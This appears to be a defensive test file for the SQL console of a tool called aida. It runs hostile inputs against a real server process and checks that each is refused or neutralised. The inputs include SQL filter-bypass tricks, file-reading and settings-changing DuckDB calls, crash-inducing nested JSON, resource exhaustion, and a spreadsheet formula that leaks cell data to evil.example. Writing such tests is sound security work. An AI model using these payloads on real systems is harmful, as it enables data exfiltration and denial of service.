// Issue 13's attacks on the SQL console, each with its hostile input and the exact outcome. The ones
// that once crashed or bricked the server run against a real `aida serve` child process (a crash fails
// the test instead of killing Vitest), and every group ends by asking that child for /api/health.
import { spawn, spawnSync, type ChildProcess } from 'node:child_process';
import fs from 'node:fs';
import http from 'node:http';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { resolveConfig, type ConfigInput } from '../../bin/config.ts';
import { ensureDerived } from '../../ingest/ensure-derived.ts';
import { ingestFile } from '../../ingest/pipeline.ts';
import { openDb } from '../../queries/db/open.ts';
import { inboxDir } from '../../queries/db/paths.ts';
import { confineFileAccess, publicMessage } from '../../queries/sql.ts';
import { listFiles, serverFixture, type ServerFixture } from './server-fixture.ts';
import { sql } from 'kysely';

const visitorIp = '203.0.113.77';
const formula = '=HYPERLINK("http://evil.example/?leak="&A1,"click")';
// one visitor's tracking link with a formula as its campaign (URL-encoded as a browser sends it)
const accessLog = [
  `${visitorIp} - - [01/Oct/2026:10:00:00 +0000] "GET /landing?utm_source=news&utm_medium=email&utm_campaign=${encodeURIComponent(formula)} HTTP/1.1" 200 512 "-" "Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0"`,
  `${visitorIp} - - [01/Oct/2026:10:01:00 +0000] "GET /pricing HTTP/1.1" 200 512 "-" "Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0"`,
].join('\n');
const ordersCsv = ['order_id,ts,customer_id,amount,status', 'o1,2026-10-01T10:00:00Z,c1,10.00,paid', 'o2,2026-10-02T12:00:00Z,c2,-12.50,refunded'].join('\n');

/** A warehouse on disk (closed again), holding the access log and the orders; its folder and inbox. */
async function warehouse(): Promise<{ dir: string; db: string; inbox: string; tmp: string }> {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'aida-hostile-'));
  const db = path.join(dir, 'data', 'aida.duckdb');
  const config = resolveConfig({});
  const inbox = inboxDir(config, db);
  fs.mkdirSync(inbox, { recursive: true });
  const tmp = path.join(dir, 'tmp');
  fs.mkdirSync(tmp);
  const handle = await openDb(db);
  await confineFileAccess(handle, [inbox]);
  for (const [name, text] of [['access.log', accessLog], ['orders.csv', ordersCsv]]) {
    fs.writeFileSync(path.join(dir, name!), text!);
    expect((await ingestFile(handle, path.join(dir, name!), { config, inboxDir: inbox })).status).toBe('loaded');
  }
  await handle.close();
  return { dir, db, inbox, tmp };
}

interface Child {
  url: string;
  pid: number;
  /** the child's exit, if it exited */
  exited: () => { code: number | null; signal: string | null } | null;
  peakRssMb: () => number;
  stop: () => Promise<void>;
}

/** `aida serve` as a child process on port 0, with TMPDIR inside the test folder; RSS sampled. */
async function serveChild(w: { dir: string; db: string; tmp: string }, config: ConfigInput, nodeArgs: string[] = []): Promise<Child> {
  const configFile = path.join(w.dir, 'aida.config.json');
  fs.writeFileSync(configFile, JSON.stringify(config));
  const child: ChildProcess = spawn(process.execPath, [...nodeArgs, 'bin/aida.js', 'serve', '--db', w.db, '--port', '0', '--config', configFile], {
    stdio: ['ignore', 'pipe', 'pipe'], env: { ...process.env, TMPDIR: w.tmp },
  });
  let output = '';
  let exit: { code: number | null; signal: string | null } | null = null;
  child.stderr!.on('data', (d) => (output += d));
  child.once('exit', (code, signal) => (exit = { code, signal }));
  const url = await new Promise<string>((resolve, reject) => {
    child.stdout!.on('data', (d) => {
      output += d;
      const m = /serving (http:\/\/127\.0\.0\.1:\d+)/.exec(output);
      if (m) resolve(m[1]!);
    });
    child.once('exit', (code) => reject(new Error(`aida serve exited ${code}:\n${output}`)));
  });
  let peak = 0;
  const sampler = setInterval(() => {
    const status = fs.existsSync(`/proc/${child.pid}/status`) ? fs.readFileSync(`/proc/${child.pid}/status`, 'utf8') : '';
    peak = Math.max(peak, Number(/VmRSS:\s+(\d+)/.exec(status)?.[1] ?? 0) / 1024);
  }, 25);
  return {
    url, pid: child.pid!, exited: () => exit, peakRssMb: () => peak,
    stop: async () => {
      clearInterval(sampler);
      if (exit) return;
      child.kill('SIGTERM');
      await new Promise((r) => child.once('exit', r));
    },
  };
}

const sqlAt = (url: string, text: string, query = '') =>
  fetch(`${url}/api/sql${query}`, { method: 'POST', headers: { 'content-type': 'application/json', 'x-aida-request': '1' }, body: JSON.stringify({ sql: text }) });

/** The server still answers: health and a plain query, and the process has not exited. */
async function stillUp(child: Child): Promise<void> {
  const health = await fetch(`${child.url}/api/health`);
  expect(health.status).toBe(200);
  expect((await (await sqlAt(child.url, 'select 42 as answer')).json()).rows).toEqual([[42]]);
  expect(child.exited()).toBeNull();
}

describe('a real aida serve under attack', () => {
  let w: Awaited<ReturnType<typeof warehouse>>;
  let child: Child;
  let staleDir: string;
  beforeAll(async () => {
    w = await warehouse();
    // an export folder left by a server that was killed (its pid is gone): removed when the next one starts
    const gone = spawnSync(process.execPath, ['-e', '0']).pid!;
    staleDir = path.join(w.tmp, `aida-export-${gone}-x1`);
    fs.mkdirSync(path.join(staleDir, 'spill'), { recursive: true });
    fs.writeFileSync(path.join(staleDir, 'spill', 'duckdb_temp_block-1.block'), Buffer.alloc(1024));
    // and the warehouse's own spill a killed server left (DuckDB clears <db>.tmp only on a clean close)
    fs.mkdirSync(`${w.db}.tmp`);
    fs.writeFileSync(path.join(`${w.db}.tmp`, 'duckdb_temp_storage_S32K-0.tmp'), Buffer.alloc(1024));
    // a small V8 heap: a result that slipped past the byte budget would crash the child quickly
    child = await serveChild(w, { sql: { timeout_seconds: 30, max_export_mb: 64, send_timeout_seconds: 2, export_timeout_seconds: 60 } }, ['--max-old-space-size=768']);
  });
  afterAll(async () => {
    await child?.stop();
    fs.rmSync(w.dir, { recursive: true, force: true });
  });

  it('removed the export folder and the spill a killed server left behind', () => {
    expect(fs.existsSync(staleDir)).toBe(false);
    expect(fs.readdirSync(`${w.db}.tmp`)).toEqual([]);
  });

  it('1: refuses every way around the SELECT check, and the server stays up with no file written', async () => {
    const logDir = path.join(w.dir, 'logs');
    const enableLogging = "enable_logging() is not allowed in the SQL console: it changes or reads server settings or logs";
    const cases: [string, string][] = [
      [`select * from query('from enable_logging(storage := ''file'', storage_path := ''${logDir}'')')`, 'query() is not allowed in the SQL console: it runs or parses SQL text the console has not checked'],
      // DuckDB nests block comments: the EXPLAIN's statement starts after `/* /* */ select ' */`
      [`explain analyze /* /* */ select ' */ select * from enable_logging(storage := $$file$$, storage_path := $$${logDir}$$) --'`, enableLogging],
      ["explain select * from enable_logging(level := 'trace')", enableLogging],
      ['select * from enable_logging(storage_buffer_size := 999999999999)', enableLogging],
      ['select * from enable_peg_parser()', 'enable_peg_parser() is not allowed in the SQL console: it changes or reads server settings or logs'],
      ["select * from system.main.query_table('meta')", 'query_table() is not allowed in the SQL console: it runs or parses SQL text the console has not checked'],
      ["select * from json_execute_serialized_sql('{}')", 'json_execute_serialized_sql() is not allowed in the SQL console: it runs or parses SQL text the console has not checked'],
      ['from duckdb_logs', "no table or view named duckdb_logs is readable from the SQL console (it reads the warehouse's tables and v_* views, and DuckDB's catalog views such as duckdb_tables and information_schema.columns)"],
      ['select * from duckdb_settings()', 'duckdb_settings() is not allowed in the SQL console: it changes or reads server settings or logs'],
      ["select current_setting('temp_directory')", 'current_setting() is not allowed in the SQL console: it changes or reads server settings or logs'],
      ['select * from pg_catalog.pg_settings', "no table or view named pg_catalog.pg_settings is readable from the SQL console (it reads the warehouse's tables and v_* views, and DuckDB's catalog views such as duckdb_tables and information_schema.columns)"],
      [`select ${'('.repeat(65)}1${')'.repeat(65)}`, 'the query nests brackets 65 deep; the SQL console allows at most 64'],
      ["explain (format json) select 1", 'EXPLAIN options are not supported in the SQL console: write EXPLAIN or EXPLAIN ANALYZE before the SELECT'],
      ['select 1 /* /* */', 'a /* comment opened on line 1 is never closed'],
    ];
    for (const [text, detail] of cases) {
      const res = await sqlAt(child.url, text);
      expect([text, res.status, (await res.json()).detail]).toEqual([text, 400, detail]);
    }
    expect(fs.existsSync(logDir)).toBe(false);
    // the EXPLAIN ANALYZE that was checked is the one that runs: the comment trick explains a string
    const explained = await (await sqlAt(child.url, "explain analyze /* /* */ select ' */ select 7 as seven --'")).json();
    expect(JSON.stringify(explained.rows)).toContain('seven');
    await stillUp(child);
  });

  it('2: a deeply nested JSON value is refused before it can crash the process', async () => {
    const deep = "json(repeat('[',100000)||repeat(']',100000))";
    for (const fn of ['json_structure', 'json_group_structure', 'json_pretty']) {
      const res = await sqlAt(child.url, `select ${fn}(${deep})`);
      expect([res.status, (await res.json()).detail]).toEqual([400, `${fn}() is not allowed in the SQL console: it recurses without limit on deeply nested JSON and can crash the server`]);
    }
    const transform = await sqlAt(child.url, "select json_transform('1', repeat('[',100000)||repeat(']',100000))");
    expect((await transform.json()).detail).toBe('json_transform() is not allowed in the SQL console: it recurses without limit on deeply nested JSON and can crash the server');
    await stillUp(child);
  });

  it('2: wide rows stop at the JSON byte budget instead of filling the heap', async () => {
    const res = await sqlAt(child.url, "select repeat('x', 400000) as x from range(10000)");
    expect(res.status).toBe(200);
    const body = await res.json();
    // each row is ["xxx…"] in JSON: 400,000 + 4 characters, +1 for its comma; 32 MB = 33,554,432 bytes
    // → 33,554,432 / 400,005 = 83.9: 83 rows fit
    expect([body.rowCount, body.truncated, body.truncatedBy]).toEqual([83, true, 'bytes']);
    expect(body.rows[0][0].length).toBe(400000);
    await stillUp(child);
  });

  it('2/3: two concurrent CSV exports of 300 KB rows stop at sql.max_export_mb as failed downloads, memory bounded', async () => {
    const read = async () => {
      const res = await sqlAt(child.url, "select repeat('x', 300000) as x from range(20000)", '?format=csv');
      expect(res.status).toBe(200);
      let bytes = 0;
      try {
        for await (const piece of res.body!) bytes += piece.length;
      } catch (err) {
        return { bytes, error: (err as Error).message };
      }
      return { bytes, error: null };
    };
    const [a, b] = await Promise.all([read(), read()]);
    for (const r of [a, b]) {
      expect(r.error).not.toBeNull(); // the transfer failed: never a 6 GB file, never a short file that looks whole
      expect(r.bytes).toBeLessThanOrEqual(64 * 2 ** 20); // the budget: 64 MB
      expect(r.bytes).toBeGreaterThan(60 * 2 ** 20); // ... and everything up to it was sent
    }
    // a DuckDB chunk of 2,048 × 300 KB rows is ~600 MB and one more is computed ahead; chunks already
    // read are freed when V8 collects their handles: up to 4.4 GB measured for the two (the old code
    // reached 9.2 GB in the attack and 10.7 GB on these two requests: DuckDB ran ahead, JS held whole chunks)
    expect(child.peakRssMb(), 'peak RSS in MB').toBeLessThan(5000);
    await stillUp(child);
  });

  it('3: an export stopped by its limits is a failed transfer or a 400, and leaves no file behind', async () => {
    const res = await sqlAt(child.url, 'select range from range(2000000000)', '?format=csv');
    expect(res.status).toBe(200);
    await expect(res.text()).rejects.toThrow(/terminated/);
    const parquet = await sqlAt(child.url, 'select range from range(3000000000)', '?format=parquet');
    expect(parquet.status).toBe(400);
    expect((await parquet.json()).detail).toBe('the export is larger than 64 MB and was stopped (limit: sql.max_export_mb)');
    expect(fs.readdirSync(w.tmp).filter((n) => n.startsWith('aida-'))).toEqual([]); // no aida-export-* folder, no spill
    await stillUp(child);
  });

  it('5: clients that stop reading lose their downloads after sql.send_timeout_seconds; the next query is answered', async () => {
    const u = new URL(child.url);
    const stalled: http.IncomingMessage[] = [];
    // sql.max_concurrent = 2: both slots taken by readers that never read (10 × 1 GB of CSV asked for)
    for (let i = 0; i < 2; i++) {
      const body = JSON.stringify({ sql: "select repeat('y', 1000) as y from range(1000000)" });
      await new Promise<void>((resolve) => {
        const req = http.request({ agent: false, host: u.hostname, port: u.port, path: '/api/sql?format=csv', method: 'POST', headers: { 'content-type': 'application/json', 'x-aida-request': '1', 'content-length': Buffer.byteLength(body) } }, (res) => {
          res.pause();
          stalled.push(res);
          resolve();
        });
        req.end(body);
      });
    }
    expect(stalled.map((r) => r.statusCode)).toEqual([200, 200]);
    const t0 = Date.now();
    const res = await sqlAt(child.url, 'select 42 as answer');
    const waited = Date.now() - t0;
    expect(res.status).toBe(200);
    expect((await res.json()).rows).toEqual([[42]]);
    // freed by the 2 s send timeout, well before the 5 s queue wait would have turned it away with a 503
    expect(waited).toBeLessThan(4500);
    // when the stalled clients read again, their downloads end cut off (incomplete), never as a whole file
    const outcomes = await Promise.all(stalled.map((r) => new Promise<{ complete: boolean; bytes: number }>((resolve) => {
      let bytes = 0;
      r.on('data', (d: Buffer) => (bytes += d.length));
      r.on('error', () => undefined);
      r.on('close', () => resolve({ complete: r.complete, bytes }));
      r.resume();
    })));
    for (const o of outcomes) {
      expect(o.complete).toBe(false);
      expect(o.bytes).toBeLessThan(1001 * 1_000_000); // far from the 1,001,000,000 bytes of the full CSV
    }
    await stillUp(child);
  });

  it('10: the salt, the raw inputs and server paths are out of reach', async () => {
    const [raw] = fs.readdirSync(w.inbox).filter((n) => /^[0-9a-f]{64}$/.test(n));
    const cases: [string, string][] = [
      ['select * from meta', 'meta is not readable from the SQL console (it holds the visitor salt)'],
      ["with x as (select 1) select * from main.meta", 'meta is not readable from the SQL console (it holds the visitor salt)'],
      ['with meta as (select 1) select * from meta', 'a CTE may not be named meta in the SQL console (that name belongs to a table the console cannot read): rename it'],
      [`select * from read_text('${w.inbox}/*')`, 'read_text() is not allowed in the SQL console: it reads files (the console reads only the warehouse)'],
      [`select * from '${w.inbox}/${raw}'`, `the SQL console reads the warehouse's tables and views, not files: '${w.inbox}/${raw}' is not one of them`],
      [`describe '${w.inbox}/${raw}'`, `the SQL console reads the warehouse's tables and views, not files: '${w.inbox}/${raw}' is not one of them`],
      ['describe meta', 'meta is not readable from the SQL console (it holds the visitor salt)'],
      ['select * from duckdb_databases()', "duckdb_databases() is not allowed in the SQL console: it touches database or session state"],
    ];
    for (const [text, detail] of cases) {
      const res = await sqlAt(child.url, text);
      expect([res.status, (await res.json()).detail], text).toEqual([400, detail]);
    }
    // what the console can read carries no raw IP: the visitor is a hash
    const visitors = await (await sqlAt(child.url, 'select distinct visitor_id from events')).json();
    expect(visitors.rows.length).toBe(1);
    expect(visitors.rows[0][0]).toMatch(/^[0-9a-f]{16}$/);
    const everything = await (await sqlAt(child.url, 'select * from events')).text();
    expect(everything).not.toContain(visitorIp);
    await stillUp(child);
  });

  it('11: a huge body is refused before it is read (413), without the server growing', async () => {
    const before = child.peakRssMb();
    const big = `{"sql":"${'x'.repeat(50 * 2 ** 20)}"}`;
    const res = await fetch(`${child.url}/api/sql`, { method: 'POST', headers: { 'content-type': 'application/json', 'x-aida-request': '1' }, body: big });
    expect(res.status).toBe(413);
    expect((await res.json()).detail).toBe('the request body is larger than 1 MB; a query may have at most 100,000 characters');
    // the same without a content-length: counted while it arrives, stopped after 1 MB
    const chunk = new TextEncoder().encode('x'.repeat(2 ** 20));
    let sent = 0;
    const stream = new ReadableStream<Uint8Array>({
      pull(ctrl) {
        if (sent++ < 50) ctrl.enqueue(chunk);
        else ctrl.close();
      },
    });
    const chunked = await fetch(`${child.url}/api/sql`, { method: 'POST', headers: { 'content-type': 'application/json', 'x-aida-request': '1' }, body: stream, duplex: 'half' } as RequestInit);
    expect(chunked.status).toBe(413);
    expect(child.peakRssMb() - before).toBeLessThan(200);
    await stillUp(child);
  });
});

describe('in process: settings, ordinary SQL and messages', () => {
  let f: ServerFixture;
  beforeAll(async () => {
    f = await serverFixture();
    expect((await f.ingest('access.log', accessLog)).status).toBe('loaded');
    expect((await f.ingest('orders.csv', ordersCsv)).status).toBe('loaded');
    await ensureDerived(f.db, f.config); // the analyst views and macros, as aida serve installs them
  });
  afterAll(async () => f.close());
  const post = (text: string, query = '') =>
    f.app.request(`/api/sql${query}`, { method: 'POST', headers: { 'content-type': 'application/json', 'x-aida-request': '1' }, body: JSON.stringify({ sql: text }) });

  it('hostile statements leave every DuckDB setting and file as it was', async () => {
    const settings = () => (sql`select name, value from duckdb_settings() order by name`.execute(f.db.kysely).then((r) => r.rows));
    const before = { settings: await settings(), files: listFiles(f.dir) };
    for (const text of [
      "select * from query('select * from enable_logging(level := ''trace'')')",
      "explain analyze /* /* */ select ' */ select * from enable_peg_parser() --'",
      'select * from enable_profiling()', 'select * from disable_logging()', "select setseed(0.5)", "select * from checkpoint()",
    ]) expect((await post(text)).status).toBe(400);
    expect(await settings()).toEqual(before.settings);
    expect(listFiles(f.dir)).toEqual(before.files);
  });

  it('still runs what analysts write: operators, windows, lambdas, JSON, SUMMARIZE, the macros', async () => {
    const ordinary = [
      "select o.order_id, o.amount * 2 as twice, amount::double / 4 as q, order_id like 'o%', order_id ilike 'O%', order_id ~ '^o', order_id glob 'o*', -amount, amount % 3, 2 ^ 3, 'a' || 'b' from orders o",
      "select coalesce(null, 1), case when amount > 0 then 'in' else 'out' end, date_trunc('month', ts), extract(year from ts), strftime(ts, '%Y'), ts + interval 1 day, [1, 2][1], {'a': 1}.a, list_transform([1, 2], x -> x + 1), 1 in (1, 2), amount between 0 and 20, amount is distinct from 1 from orders",
      "select count(*) filter (where amount > 0), sum(amount), median(amount), quantile_cont(amount, 0.5), string_agg(order_id, ',' order by ts), array_agg(order_id) from orders",
      'select order_id, row_number() over (order by ts), sum(amount) over (partition by status) from orders',
      "select json_extract('{\"a\": [1, 2]}', '$.a[1]'), '{\"a\": 1}'::json ->> 'a', regexp_extract('utm=x', 'utm=(.*)', 1), url_decode('%3D'), now() > ts from orders",
      'with recursive n(i) as (select 1 union all select i + 1 from n where i < 3) select * from n',
      "with s1 as (select person_id, ts as t1 from stage_hits where stage = 'visit' and ts >= timestamptz '2026-10-01 00:00:00+00'), s2 as (select s.person_id, min(h.ts) as t2 from s1 s join stage_hits h on h.person_id = s.person_id and h.ts <= s.t1 + interval 30 day group by all) select (select count(distinct person_id) from s1)::integer, (select count(*) from s2)::integer", 'summarize orders', 'describe orders', 'show tables',
      "select * from funnel(date '2026-10-01', date '2026-11-01')", 'select * from v_orders', 'select table_name from duckdb_tables() order by 1',
      "select column_name from information_schema.columns where table_name = 'orders'", 'select * from range(3) r, generate_series(1, 2) g, unnest([1]) u',
      "select * from (pivot orders on status in ('paid', 'refunded') using sum(amount))", 'from orders select order_id', "select * from pragma_table_info('orders')",
    ];
    for (const text of ordinary) {
      const res = await post(text);
      expect([text, res.status]).toEqual([text, 200]);
    }
  });

  it('shows DuckDB errors without the server’s paths', () => {
    expect(publicMessage(new Error(`IO Error: Cannot open file "${f.inbox}/abc": denied\nLINE 1`))).toBe('IO Error: Cannot open file "<inbox>/abc": denied');
    expect(publicMessage(new Error(`IO Error: ${path.join(f.dir, 'data', 'aida.duckdb.tmp')} full`))).toBe('IO Error: <data>/aida.duckdb.tmp full');
    expect(publicMessage(new Error('Catalog Error: no /srv/aida/x.csv here'))).toBe('Catalog Error: no <path> here');
  });

  it('6: no CSV aida writes carries a live formula — metric CSV, console CSV, aida sql --format csv', async () => {
    // the campaign from the visitor's tracking link, in the campaigns metric's CSV
    const campaigns = await (await f.app.request('/api/campaigns?format=csv&from=2026-10-01&to=2026-11-01')).text();
    const cell = `"'${formula.replaceAll('"', '""')}"`; // a leading ' (OWASP), then RFC 4180 quoting
    expect(campaigns).toContain(`,${cell},`);
    expect(campaigns).not.toMatch(/(^|,)"?=HYPERLINK/m);
    // the console's CSV: formulas neutralised, plain numbers (also negative, also DECIMAL text) left alone
    const query = "select '=1+2' as a, '+cmd|x' as b, '-1+2' as c, '@SUM(A1)' as d, chr(9) || 'tab' as e, -12.5 as f, '-12.5' as g, amount as h, 'plain' as i, '=head' as \"=h\" from orders where order_id = 'o2'";
    const expected = `'=h\r\n'=1+2,'+cmd|x,'-1+2,'@SUM(A1),'\ttab,-12.5,-12.5,-12.5,plain,'=head\r\n`;
    const csv = await (await post(query, '?format=csv')).text();
    expect(csv).toBe(`a,b,c,d,e,f,g,h,i,${expected}`);
    // aida sql --format csv, on the database file (the fixture's instance is closed for it)
    await f.db.close();
    const cli = spawnSync(process.execPath, ['bin/aida.js', 'sql', query, '--format', 'csv', '--db', f.dbFile], { encoding: 'utf8' });
    f.db = await openDb(f.dbFile);
    expect(cli.stderr).toBe('');
    expect(cli.stdout).toBe(`\uFEFFa,b,c,d,e,f,g,h,i,${expected.replaceAll('\r\n', '\n')}`); // the BOM first (queries/shared/csv.ts)
  });
});

describe('3: exports stopped by a time limit end as errors, never as a complete-looking file', () => {
  const post = (f: ServerFixture, text: string, query: string) =>
    f.app.request(`/api/sql${query}`, { method: 'POST', headers: { 'content-type': 'application/json', 'x-aida-request': '1' }, body: JSON.stringify({ sql: text }) });

  it('sql.timeout_seconds = 1: the CSV stream fails with the reason; Parquet is a 400', async () => {
    const f = await serverFixture({ sql: { timeout_seconds: 1 } });
    try {
      const res = await post(f, 'select range from range(2000000000)', '?format=csv');
      expect(res.status).toBe(200); // the first rows went out before the limit struck
      await expect(res.text()).rejects.toThrow('the query ran for more than 1 s and was stopped (limit: sql.timeout_seconds)');
      const parquet = await post(f, 'select range from range(3000000000)', '?format=parquet');
      expect([parquet.status, (await parquet.json()).detail]).toEqual([400, 'the query ran for more than 1 s and was stopped (limit: sql.timeout_seconds)']);
    } finally {
      await f.close();
    }
  });

  it('sql.export_timeout_seconds = 2: a download that takes longer fails with the reason', async () => {
    const f = await serverFixture({ sql: { export_timeout_seconds: 2 } });
    try {
      const t0 = Date.now();
      const res = await post(f, 'select range from range(2000000000)', '?format=csv');
      expect(res.status).toBe(200);
      await expect(res.text()).rejects.toThrow('the export took more than 2 s and was stopped (limit: sql.export_timeout_seconds)');
      expect(Date.now() - t0).toBeGreaterThanOrEqual(2000);
    } finally {
      await f.close();
    }
  });
});
